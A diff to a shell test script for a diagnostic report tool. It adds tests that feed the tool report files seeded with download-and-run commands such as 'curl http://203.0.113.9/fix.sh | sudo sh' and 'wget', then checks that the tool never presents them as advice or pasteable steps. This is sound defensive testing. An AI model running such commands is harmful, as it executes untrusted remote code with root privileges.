@@ -21,9 +21,14 @@ says() {
 	grep -q -- "$1" out
 }
 
+# On one line, without the bars in front of what a file's words go on in.
+flat() {
+	sed 's/^ *| //' "$1" | tr -s '\n ' '  '
+}
+
 # The same of a sentence, which may go over several lines.
 tells() {
-	tr -s '\n ' '  ' <out | grep -q -- "$1"
+	flat out | grep -q -- "$1"
 }
 
 ends() {
@@ -103,9 +108,9 @@ t "a file is read" says '^  it is  *It is caused by: .*listen'
 t "and is as bad as it was" ends 2
 # Of what is good without being ruled out, each with the reason that the run gave.
 jq -r '.not_cleared[] | "good \(.check) \(.reason)"' ill.json >reasons
-tr -s '\n ' '  ' <out >flat
+flat out >whole
 missed=$(while read -r reason; do
-	grep -qF -- "$reason" flat || echo "$reason"
+	grep -qF -- "$reason" whole || echo "$reason"
 done <reasons)
 t "what is not cleared says why" [ -s reasons -a "$missed" = "" ]
 jq -r '.not_cleared[] | select(.reason | test("^[a-z0-9 .,:]*$")) |
@@ -224,6 +229,40 @@ chmod 0777 kept
 call "$tuesday" report last --state kept
 t "a history that others may write to is not read" refuses 3 'others may write'
 chmod 0755 kept
+
+# What a file says to do is no advice of ours: commands, remedies and sources are of the check files
+# here, and only what no file here knows is told in its words.
+jq -c '.kernel = "6.1 " + ("x" * 97) + " it is not It is not load" |
+	.checks |= map(.summary = "slow\nIt is not: cpu disk" | .missing = "run: curl http://203.0.113.9/m | sudo sh" |
+		.next = ["curl -s http://203.0.113.9/fix.sh | sudo sh"] | .remedies = ["wget http://203.0.113.9/r"] |
+		.experiments = [{name: "e", answer: "same", left: "curl http://203.0.113.9/l | sh"}] |
+		.metrics |= map(.source = "http://203.0.113.9/s" | .why = "http://203.0.113.9/w" |
+			.ends = "http://203.0.113.9/e")) |
+	.checks += [{check: "nobodys", verdict: "bad", next: ["curl http://203.0.113.9/n | sh"],
+		remedies: ["pip install 203.0.113.9"]}]' ill.json >lure.json
+call "$tuesday" report lure.json --html -
+cp out page.html
+call "$tuesday" report lure.json
+t "a file's report says that it is one" tells 'This is what a file says, and nobody here has seen it'
+sed -n '/^Next$/,/^$/p' out >next
+t "the next steps of a file are those of the check files here" grep -q '^  tuesday explain listen$' next
+t "  and none of its own" lacks 203.0.113.9 next
+t "no line of it can be pasted" sh -c '! grep -q "^ *\(remedy: \)*\(curl\|wget\|pip\)" out'
+t "what no check file here knows is told in its words" says '^  | nobodys says: curl http://203.0.113.9/n | sh$'
+t "so is what would look deeper" tells 'not looked deeper: the report says: run: curl'
+t "and what was not put back" tells 'NOT PUT BACK: the report says: curl'
+sed '/^What is known now/,$d' out >before
+t "no line of it begins as one of ours" lacks '^ *[iI]t is not' before
+t "the page has no command of the file" sh -c '! grep -o "<code>[^<]*" page.html | grep -q "curl\|wget\|203"'
+t "  and no source of its" lacks 203.0.113.9/[sweruf] page.html
+t "  but tells what is not known here in its words" shows 'nobodys says: curl http'
+"$tuesday" run --replay ill --state own -o json >own.json 2>/dev/null
+jq -c '.checks |= map(.next = ["curl http://203.0.113.9/o | sh"])' own.json >lure.json
+call "$tuesday" report lure.json --state own
+t "a file that bears the id of a run of ours is a file" lacks 203.0.113.9 out
+jq -c '.verdict = "good"' ill.json >lure.json
+call "$tuesday" report lure.json
+t "a file is as bad as the worst of its checks, whatever it says" ends 2
 
 # Hostile names, wherever a name can stand.
 # shellcheck disable=SC2016
